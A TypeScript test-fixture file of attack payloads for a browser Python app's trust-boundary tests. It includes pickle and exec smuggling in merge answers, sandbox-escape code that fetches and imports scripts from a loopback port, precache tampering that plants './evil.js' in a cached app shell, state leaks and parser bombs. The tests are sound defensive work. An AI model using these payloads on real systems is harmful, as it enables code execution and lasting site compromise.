// Attack payloads for the trust-boundary tests (issue: "what the user reviews is exactly
// what runs, and nothing from a stranger persists"). One file on purpose: every attack
// class has its payloads here, and the tests that use them say what must not happen.
// Each section belongs to one attack class; add payloads to the section they attack.

// -- merge: executor answers that must never run code in the runner --------------------
// The executor runs handling code that may have switched every guard off, so whatever it
// answers reaches the runner as an attacker's JSON. Each answer here tries to get code to
// run in the paused program (or a name to stand for something it is not); the runner must
// refuse it with "merge refused, nothing was changed" and the program must go on unchanged.
// The program they are used with (MERGE_TARGET_PROGRAM) reports whether anything ran.

/** Fails at line 3 (x is undefined); then prints what a successful attack would have changed. */
export const MERGE_TARGET_PROGRAM = `import builtins
value = 1
value = value + undefined_name
print("value", value, "pwned", getattr(builtins, "PWNED", False))
`;

export const MALICIOUS_MERGE_ANSWERS: { name: string; answer: unknown }[] = [
  { name: 'the old pickle format (REDUCE of os.system)', answer: { action: 'merge', updates: 'Y29zCnN5c3RlbQooUydlY2hvIGhpJwp0Ui4=' } },
  { name: 'a builtin that runs code', answer: { action: 'merge', set: [{ name: 'value', value: { t: 'builtin', name: 'exec' } }] } },
  { name: 'getattr, the old allowlist hole', answer: { action: 'merge', set: [{ name: 'value', value: { t: 'builtin', name: 'getattr' } }] } },
  {
    name: 'a dotted name under __main__ (__builtins__.exec)',
    answer: { action: 'merge', set: [{ name: 'value', value: { t: 'object', class: '__builtins__.exec', attrs: [] } }] },
  },
  { name: 'a module the state did not hold (subprocess)', answer: { action: 'merge', set: [{ name: 'value', value: { t: 'module', name: 'subprocess' } }] } },
  {
    name: 'a function of os one by one (os.system)',
    answer: { action: 'merge', set: [{ name: 'value', value: { t: 'stdlib', module: 'os', name: 'system' } }] },
  },
  { name: 'a std type that is not data', answer: { action: 'merge', set: [{ name: 'value', value: { t: 'std', type: 'os.system', args: ['echo pwned'] } }] } },
  { name: "swapping the program's builtins", answer: { action: 'merge', set: [{ name: '__builtins__', value: { t: 'dict', id: 0, entries: [] } }] } },
  {
    name: 'a defaultdict whose factory is a stdlib function',
    answer: {
      action: 'merge',
      set: [
        { name: 'value', value: { t: 'std', type: 'collections.defaultdict', id: 0, factory: { t: 'stdlib', module: 'os.path', name: 'join' }, entries: [] } },
      ],
    },
  },
  {
    name: 'a dunder attribute on a rebuilt object',
    answer: { action: 'merge', set: [{ name: 'value', value: { t: 'object', class: 'int', id: 0, attrs: [['__class__', 1]] } }] },
  },
  {
    name: 'an unknown tag (a REDUCE in disguise)',
    answer: { action: 'merge', set: [{ name: 'value', value: { t: 'reduce', fn: 'builtins.exec', args: ['import builtins; builtins.PWNED = True'] } }] },
  },
  {
    name: 'one good binding and one bad (nothing may be half-merged)',
    answer: {
      action: 'merge',
      set: [
        { name: 'value', value: 5 },
        { name: 'other', value: { t: 'builtin', name: 'eval' } },
      ],
    },
  },
];

// -- executor boundary: handling code that switches the guards off ----------------------
// Handling code is untrusted (a model, an endpoint, a stranger's trace). These switch off
// every Python-level guard of the executor and then try to reach the runner, the page or
// the network. The boundary must hold anyway.

/** Subverts the executor's own encoder so its answer names whatever the attacker likes. */
export const HANDLING_FORGES_ITS_ANSWER = `from _heal_executor import answer, sandbox
from _heal_common import heal_values
sandbox._active = False
heal_values.Encoder.encode_binding = lambda self, value, in_place: {"t": "builtin", "name": "exec"}
answer.dry_run = lambda *args: None
value = 2
`;

/** Registers copyreg reducers so that a pickler would emit a call of exec (the old merge pickle). */
export const HANDLING_REGISTERS_REDUCERS = `import copyreg, types
copyreg.pickle(types.SimpleNamespace, lambda o: (exec, ("import builtins; builtins.PWNED = True",)))
copyreg.dispatch_table[list] = lambda o: (exec, ("import builtins; builtins.PWNED = True",))
value = types.SimpleNamespace(a=[1])
`;

/** Poisons its own interpreter for the next proposal (a rejected proposal forging the next one's diff). */
export const HANDLING_POISONS_THE_NEXT_PROPOSAL = `import json, sys
from _heal_executor import sandbox
from _heal_common import heal_values
sandbox._active = False
heal_values.Encoder.encode_binding = lambda self, value, in_place: {"t": "int", "v": "666"}
json.dumps = lambda *a, **k: '{"status": "ok", "merge": {"action": "merge", "set": [{"name": "value", "value": 666}]}}'
sys.settrace(lambda *a: None)
value = 3
`;

/**
 * What any script inside the executor's frame may try (the frame's own globals, and a fresh
 * Blob worker's): run in the frame by the test. Resolves with what happened to each attempt;
 * the loopback server at `port` must see nothing. Self-contained (serialized into the frame).
 */
export async function escapeFromTheFrame({ port, marker }: { port: number; marker: string }): Promise<Record<string, string>> {
  const outcome: Record<string, string> = {};
  const settle = async (name: string, action: () => Promise<unknown>) => {
    try {
      await action();
      outcome[name] = 'allowed';
    } catch (error) {
      outcome[name] = `refused: ${(error as Error).name}`;
    }
  };
  await settle('fetch', () => fetch(`http://127.0.0.1:${port}/frame-fetch`));
  await settle('caches', () => caches.open(marker));
  await settle(
    'indexedDB',
    () =>
      new Promise((resolve, reject) => {
        const r = indexedDB.open(marker);
        r.onsuccess = resolve;
        r.onerror = () => reject(r.error);
      }),
  );
  await settle('localStorage', async () => localStorage.setItem(marker, '1'));
  await settle('parent document', async () => (parent as Window).document.title);
  const source = `const out = {};
const tryIt = async (n, f) => { try { await f(); out[n] = "allowed"; } catch (e) { out[n] = "refused: " + e.name; } };
(async () => {
  await tryIt("worker fetch", () => fetch("http://127.0.0.1:${port}/worker-fetch"));
  await tryIt("worker caches", () => caches.open("${marker}"));
  await tryIt("worker indexedDB", () => new Promise((res, rej) => { const r = indexedDB.open("${marker}"); r.onsuccess = res; r.onerror = () => rej(r.error); }));
  await tryIt("worker import", () => import("http://127.0.0.1:${port}/worker-import.js"));
  postMessage(out);
})();`;
  const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
  Object.assign(
    outcome,
    await new Promise<Record<string, string>>((resolve) => {
      worker.onmessage = (event) => resolve(event.data as Record<string, string>);
      worker.onerror = (event) => resolve({ 'nested worker': `failed to start: ${event.message}` });
    }),
  );
  worker.terminate();
  return outcome;
}

/**
 * The browser attack from a link's trace: guards off, then a nested Blob worker (fresh JS
 * globals, none of the executor's JS lockdown) that tries fetch, XHR, WebSocket, caches and
 * IndexedDB towards `port` on 127.0.0.1, and the executor's own worker tries storage too.
 * `marker` names the cache and database it would create.
 */
export function handlingEscapesTheSandbox(port: number, marker: string): string {
  const workerSource = [
    `fetch("http://127.0.0.1:${port}/nested-fetch").catch(() => {});`,
    `try { const x = new XMLHttpRequest(); x.open("GET", "http://127.0.0.1:${port}/nested-xhr"); x.send(); } catch (e) {}`,
    `try { new WebSocket("ws://127.0.0.1:${port}/nested-ws"); } catch (e) {}`,
    `try { caches.open("${marker}").then((c) => c.put("/x", new Response("x"))).catch(() => {}); } catch (e) {}`,
    `try { const r = indexedDB.open("${marker}"); r.onupgradeneeded = () => r.result.createObjectStore("s"); } catch (e) {}`,
    `try { importScripts("http://127.0.0.1:${port}/nested-import.js"); } catch (e) {}`,
  ].join('\n');
  return `from _heal_executor import sandbox
sandbox._active = False
import js
from pyodide.ffi import to_js
attempts = []
def attempt(name, action):
    try:
        action()
        attempts.append(name + ": no error")
    except Exception as error:
        attempts.append(name + ": " + type(error).__name__)
source = ${JSON.stringify(workerSource)}
blob = js.Blob.new(to_js([source]), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries))
attempt("nested worker", lambda: js.Worker.new(js.URL.createObjectURL(blob)))
attempt("fetch", lambda: js.fetch("http://127.0.0.1:${port}/executor-fetch"))
attempt("caches", lambda: js.caches.open("${marker}"))
attempt("indexedDB", lambda: js.indexedDB.open("${marker}"))
attempt("import", lambda: js.eval("import('http://127.0.0.1:${port}/executor-import.js')"))
# A worker starts only when its parent's event loop runs: schedule the escape for after this
# code returns (the page discards the executor then, but the frame's policy must hold anyway).
from pyodide.ffi import create_proxy
js.setTimeout(create_proxy(lambda: js.Worker.new(js.URL.createObjectURL(blob))), 0)
value = 4
`;
}

// -- links: settings, traces and replay -------------------------------------------------

/**
 * Settings a stranger's link carries to lower the guard of whoever opens it. Opening the
 * link must apply none of them; the notice lists each (theme aside: personal, never listed).
 */
export const LINK_TRUST_SETTINGS = {
  autoAccept: true, // heals (e.g. a recorded trace) would merge without review
  timeLimitMs: 0, // no time limit: a program that never stops
  healEngine: 'endpoint', // program state sent to a server the link chooses…
  endpointUrl: 'http://localhost:1234/v1', // …on another local port than the user's
  endpointModel: 'attacker-model',
  maxAttempts: 10,
  securityCheck: false, // the findings that would reveal the program go quiet
  dnnCheck: false,
  securityMinSeverity: 'HIGH',
  securityMinConfidence: 'HIGH',
  theme: 'dark',
} as const;

/** The same as an old link writes it: the full settings object, every field set. */
export const LINK_TRUST_SETTINGS_FULL = {
  ...LINK_TRUST_SETTINGS,
  reuseAccepted: false,
  patchStrategies: 5,
  patchRounds: 1,
  webllmModel: 'x',
} as const;

/** A program such a link might carry (what it does once those settings are on is the point). */
export const LINK_TRUST_PROGRAM = 'import os\nprint(os.listdir("/"))\nwhile True:\n    pass\n';

/**
 * A link body (JSON) with settings of the wrong types and a prototype key: decoding must
 * drop them, never apply them (`__proto__` is an own key after JSON.parse).
 */
export const LINK_SETTINGS_WRONG_TYPES_JSON =
  '{"code":"print(1)\\n","settings":{"autoAccept":"true","timeLimitMs":"0","securityCheck":0,"__proto__":{"autoAccept":true},"constructor":{"autoAccept":true}}}';

// -- service worker: precache tampering --------------------------------------------------
// Any same-origin code can write Cache Storage: the page, its workers, and a stranger's
// Python program through Pyodide's `js` module. The attacker overwrites precached files
// (the app shell, a chunk) so that one Run turns into a lasting compromise of the origin.
// The service worker must never serve these bytes (web/offline/integrity.ts).

/** In every tampered payload: a page or response that shows it was served the tampered copy. */
export const PRECACHE_TAMPER_MARKER = 'HEAL-PRECACHE-TAMPERED-5c1e';

/** Replaces the app shell: would run the attacker's script on every later visit. */
export const tamperedIndexHtml =
  `<!doctype html><html><head><title>${PRECACHE_TAMPER_MARKER}</title></head>` +
  `<body><h1 id="tampered">${PRECACHE_TAMPER_MARKER}</h1><script src="./evil.js"></script></body></html>`;

/** Replaces a JS chunk: would run inside the app on every later visit. */
export const tamperedScript = `document.title = ${JSON.stringify(PRECACHE_TAMPER_MARKER)}; globalThis.${PRECACHE_TAMPER_MARKER.replaceAll('-', '_')} = true;\n`;

export interface PrecacheTamper {
  /** Path relative to the origin, e.g. '/' or '/assets/index-abc.js'. */
  path: string;
  body: string;
  /** Headers stored with it: the attacker picks them too. */
  headers: Record<string, string>;
}

/**
 * What the attacker runs in the page (pass to page.evaluate): overwrites the given entries in
 * every heal-precache-* cache, and returns the cache names it wrote to. Self-contained (no
 * closure), so it can be serialized into the page.
 */
export async function tamperPrecache(tampers: PrecacheTamper[]): Promise<string[]> {
  const written: string[] = [];
  for (const name of await caches.keys()) {
    if (!name.startsWith('heal-precache-')) continue;
    const cache = await caches.open(name);
    for (const t of tampers) await cache.put(new URL(t.path, location.origin).href, new Response(t.body, { headers: t.headers }));
    written.push(name);
  }
  return written;
}

/**
 * The same attack from a program a stranger shares: one click on Run, and the program
 * (in the runner worker, through Pyodide's `js` module; JSPI's run_sync waits for the
 * promises) overwrites the cached app shell.
 */
export const tamperPrecacheProgram = `import js
from pyodide.ffi import run_sync

written = 0
for name in run_sync(js.caches.keys()):
    if name.startswith("heal-precache-"):
        cache = run_sync(js.caches.open(name))
        run_sync(cache.put(js.location.origin + "/", js.Response.new(${JSON.stringify(tamperedIndexHtml)})))
        written += 1
print("tampered caches:", written)
`;

/**
 * Not tampering but the policy that comes with it: on a static host the program's worker
 * gets no CSP unless the service worker adds one. A program that evaluates JavaScript in
 * the worker must be refused (no 'unsafe-eval' in script-src).
 */
export const workerEvalProgram = `import js
try:
    print("eval ran:", js.eval("6 * 7"))
except Exception as error:
    print("eval refused:", "EvalError" in str(error))
`;

// -- runner: state that must not leak from one run into the next -------------------------

/**
 * A program (`leak`) that changes the interpreter, and a program (`probe`) that prints what
 * it sees of that change. A probe run after the leak must print what it prints in a fresh
 * interpreter; `leak + probe` in one run shows the change is real. `layer: 'files'` leaks live
 * in the file system, which the JavaScript host restores (not runner.py on its own).
 */
export interface StateLeak {
  name: string;
  leak: string;
  probe: string;
  layer: 'python' | 'files';
  /** false when the change only happens as the run ends (a finalizer): `leak + probe` cannot show it. */
  visibleInItsOwnRun?: boolean;
}

export const STATE_LEAKS: StateLeak[] = [
  {
    name: 'builtins.print replaced',
    leak: 'import builtins\nbuiltins.print = lambda *args, **kwargs: None\n',
    probe: 'print("visible")\n',
    layer: 'python',
  },
  {
    name: 'a new builtin added',
    leak: 'import builtins\nbuiltins.helper = "leaked"\n',
    probe: 'import builtins\nprint(hasattr(builtins, "helper"))\n',
    layer: 'python',
  },
  {
    name: 'json.dumps replaced (a standard-library function)',
    leak: 'import json\njson.dumps = lambda *args, **kwargs: "patched"\n',
    probe: 'import json\nprint(json.dumps([1, 2]))\n',
    layer: 'python',
  },
  {
    name: 'string.capwords.__code__ swapped (the function object itself)',
    leak: 'import string\nstring.capwords.__code__ = (lambda s, sep=None: "patched").__code__\n',
    probe: 'import string\nprint(string.capwords("hello world"))\n',
    layer: 'python',
  },
  {
    name: 'json.JSONEncoder.default patched (a class attribute)',
    leak: 'import json\njson.JSONEncoder.default = lambda self, o: "patched"\n',
    probe: 'import json\ntry:\n    print(json.dumps(object()))\nexcept TypeError:\n    print("not serializable")\n',
    layer: 'python',
  },
  {
    name: 'sys.setrecursionlimit(50)',
    leak: 'import sys\nsys.setrecursionlimit(50)\n',
    probe: 'import sys\nprint(sys.getrecursionlimit())\n',
    layer: 'python',
  },
  {
    name: "sys.modules['json'] replaced by a fake",
    leak: 'import sys, types\nfake = types.ModuleType("json")\nfake.dumps = lambda *args, **kwargs: "fake"\nsys.modules["json"] = fake\n',
    probe: 'import json\nprint(json.dumps([1, 2]))\n',
    layer: 'python',
  },
  {
    name: 'a module added to sys.modules',
    leak: 'import sys, types\nhelpers = types.ModuleType("helpers")\nhelpers.secret = "leaked"\nsys.modules["helpers"] = helpers\n',
    probe: 'try:\n    import helpers\n    print(helpers.secret)\nexcept ImportError:\n    print("no helpers")\n',
    layer: 'python',
  },
  {
    name: 'a module imported by the run and patched',
    leak: 'import fractions\nfractions.Fraction.__repr__ = lambda self: "patched"\nfractions.LEAK = True\n',
    probe: 'import fractions\nprint(repr(fractions.Fraction(1, 2)), getattr(fractions, "LEAK", False))\n',
    layer: 'python',
  },
  {
    name: 'sys.path grown',
    leak: 'import sys\nsys.path.insert(0, "/tmp/evil")\n',
    probe: 'import sys\nprint("/tmp/evil" in sys.path)\n',
    layer: 'python',
  },
  {
    name: 'sys.settrace and sys.setprofile',
    leak: 'import sys\nsys.settrace(lambda *args: None)\nsys.setprofile(lambda *args: None)\n',
    probe: 'import sys\nprint(sys.gettrace(), sys.getprofile())\n',
    layer: 'python',
  },
  {
    name: 'sys.displayhook and sys.excepthook replaced',
    leak: 'import sys\nsys.displayhook = print\nsys.excepthook = lambda *args: print("hooked")\n',
    probe: 'import sys\nprint(sys.displayhook is sys.__displayhook__, sys.excepthook is sys.__excepthook__)\n',
    layer: 'python',
  },
  {
    name: "os.environ['X'] set",
    leak: 'import os\nos.environ["HEAL_LEAK"] = "yes"\n',
    probe: 'import os\nprint(os.environ.get("HEAL_LEAK", "unset"), os.getenv("HEAL_LEAK"))\n',
    layer: 'python',
  },
  {
    name: 'SIGINT ignored (would defeat Stop)',
    leak: 'import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n',
    probe: 'import signal\nprint(signal.getsignal(signal.SIGINT))\n',
    layer: 'python',
  },
  {
    name: 'warnings turned into errors',
    leak: 'import warnings\nwarnings.simplefilter("error")\n',
    probe: 'import warnings\ntry:\n    warnings.warn("careful")\n    print("warned")\nexcept UserWarning:\n    print("raised")\n',
    layer: 'python',
  },
  {
    name: 'logging configured',
    leak: 'import logging\nlogging.basicConfig(level=logging.DEBUG, format="LEAK %(message)s")\n',
    probe: 'import logging\nroot = logging.getLogger()\nprint(root.level, len(root.handlers))\n',
    layer: 'python',
  },
  {
    name: 'a finalizer that patches builtins after the run',
    leak: 'class Sneaky:\n    def __del__(self):\n        import builtins\n        builtins.print = lambda *args, **kwargs: None\nkeep = Sneaky()\n',
    probe: 'print("visible")\n',
    layer: 'python',
    visibleInItsOwnRun: false,
  },
  {
    name: "os.chdir('/tmp')",
    leak: 'import os\nos.chdir("/tmp")\n',
    probe: 'import os\nprint(os.getcwd())\n',
    layer: 'files',
  },
  {
    name: 'a file written to /tmp',
    leak: 'with open("/tmp/heal-leak.txt", "w") as f:\n    f.write("leaked")\n',
    probe: 'import os\nprint(os.path.exists("/tmp/heal-leak.txt"))\n',
    layer: 'files',
  },
  {
    name: 'a module file that shadows the standard library',
    leak: 'import os, sys\nwith open(os.path.join(sys.path[0], "csv.py"), "w") as f:\n    f.write("LEAKED = True\\n")\n',
    probe: 'import csv\nprint(getattr(csv, "LEAKED", False), hasattr(csv, "reader"))\n',
    layer: 'files',
  },
  {
    name: "one of the runner's own files overwritten",
    leak: 'import os, sys\npath = os.path.join(sys.path[0], "_heal_runner", "streams.py")\nwith open(path, "a") as f:\n    f.write("\\nLEAKED = True\\n")\n',
    probe: 'import os, sys\nprint(open(os.path.join(sys.path[0], "_heal_runner", "streams.py")).read().endswith("LEAKED = True\\n"))\n',
    layer: 'files',
  },
];

/** A change the runner cannot undo in place (the standard library's zip is too big to keep a
 * copy of): the host must replace the worker before the next run. */
export const UNDOABLE_LEAK = {
  name: "the standard library's zip truncated",
  leak: 'import sys\nstdlib = next(p for p in sys.path if p.endswith(".zip"))\nwith open(stdlib, "r+b") as f:\n    f.truncate(4096)\n',
  // A module no worker snapshot preloads, so importing it reads the zip.
  probe:
    'try:\n    import statistics\n    print("imported", statistics.mean([1, 2]))\nexcept Exception as error:\n    print("broken:", type(error).__name__)\n',
};

/** An audit hook cannot be removed once added, so the runner refuses to add one at all. */
export const AUDIT_HOOK = {
  leak: 'import sys\nsys.addaudithook(lambda event, args: event == "open" and print("AUDIT", args[0]))\n',
  probe: 'open("/tmp/heal-probe.txt", "w").close()\nprint("opened")\n',
};

// -- parser bombs: sources that crash a parser unless refused before parsing --------------

/**
 * Sources that nest deeper than Python in the browser can parse: without the guard
 * (workers/shared/py/_heal_common/parse_guard.py) they kill the worker's Python (a JavaScript stack overflow in
 * the parser, the tree conversion or the compiler) or, at best, end in a MemoryError. Each must be
 * refused with a SyntaxError naming `line`. Chains are far past every host's limit (Chromium's
 * worker dies at ~830 levels, Node's worker threads at a few thousand); nested brackets stay within
 * Python's own limit of 200, where Chromium's parser already dies (~130-190 levels).
 */
export interface ParserBomb {
  name: string;
  source: string;
  /** The line the refusal names. */
  line: number;
}

const CHAIN = 30_000;
const BRACKETS = 199;
const chain = (unit: string, count = CHAIN) => unit.repeat(count);
const nest = (open: string, inner: string, close: string, count = BRACKETS) => open.repeat(count) + inner + close.repeat(count);

export const PARSER_BOMBS: ParserBomb[] = [
  { name: 'a `not` chain', source: `x = 1\ny = ${chain('not ')}x\n`, line: 2 },
  { name: 'a unary minus chain', source: `y = ${chain('- ')}1\n`, line: 1 },
  { name: 'a mixed unary chain (~ - +)', source: `y = ${chain('~-+')}1\n`, line: 1 },
  { name: 'a binary operator chain', source: `y = 1${chain(' + 1')}\n`, line: 1 },
  { name: 'a power chain', source: `y = 2${chain(' ** 2')}\n`, line: 1 },
  { name: 'a call chain f()()()', source: `y = f${chain('()')}\n`, line: 1 },
  { name: 'a subscript chain x[0][0]', source: `y = x${chain('[0]')}\n`, line: 1 },
  { name: 'an attribute chain a.b.c', source: `y = a${chain('.b')}\n`, line: 1 },
  { name: 'a method chain a.b().b()', source: `y = a${chain('.b()')}\n`, line: 1 },
  { name: 'a ternary chain', source: `y = ${chain('a if b else ')}c\n`, line: 1 },
  { name: 'a lambda chain', source: `y = ${chain('lambda: ')}0\n`, line: 1 },
  { name: 'an await chain', source: `async def f():\n    return ${chain('await ')}x\n`, line: 2 },
  { name: 'an elif chain', source: `if x:\n    pass\n${chain('elif x:\n    pass\n', 5_000)}`, line: 392 },
  { name: 'nested parentheses', source: `y = ${nest('(', '1', ')')}\n`, line: 1 },
  { name: 'nested lists', source: `y = ${nest('[', '1', ']')}\n`, line: 1 },
  { name: 'nested dict literals', source: `y = ${nest('{1: ', '1', '}')}\n`, line: 1 },
  { name: 'nested calls with keywords', source: `y = ${nest('f(a=', '1', ')')}\n`, line: 1 },
  { name: 'nested slices', source: `y = ${nest('a[1:', '1', ']')}\n`, line: 1 },
  { name: 'nested f-strings', source: `y = ${nest("f'{", '1', "}'", 149)}\n`, line: 1 },
  { name: 'nested tuples of yields', source: `def g():\n    x = ${nest('(yield a, b or c and d < ', '1', ')', 150)}\n`, line: 2 },
  { name: 'nested lambda defaults', source: `y = ${nest('lambda a=(', '1', '): 1', 120)}\n`, line: 1 },
  { name: 'brackets around prefix operators', source: `y = ${nest('(not -', 'x', ')', 120)}\n`, line: 1 },
];

/** Long but flat: Python builds one wide node, nothing nests; these must not be refused. */
export const FLAT_LONG_SOURCES: { name: string; source: string }[] = [
  { name: 'a 100,000-term comparison chain', source: `y = 1${chain(' < a', 100_000)}\n` },
  { name: 'a 30,000-term comparison chain of attributes', source: `y = a${chain('.b < a', 30_000)}\n` },
  { name: 'a 100,000-term and/or chain', source: `y = 1${chain(' or a and b', 100_000)}\n` },
  { name: 'a 100,000-item tuple', source: `y = 1${chain(', -a', 100_000)}\n` },
  { name: '100,000 implicitly joined strings', source: `y = 'a'${chain(" 'a'", 100_000)}\n` },
  { name: 'a 100,000-target assignment', source: `${chain('x = ', 100_000)}1\n` },
  { name: '20,000 if/else statements', source: chain('if x:\n    pass\nelse:\n    pass\n', 20_000) },
];
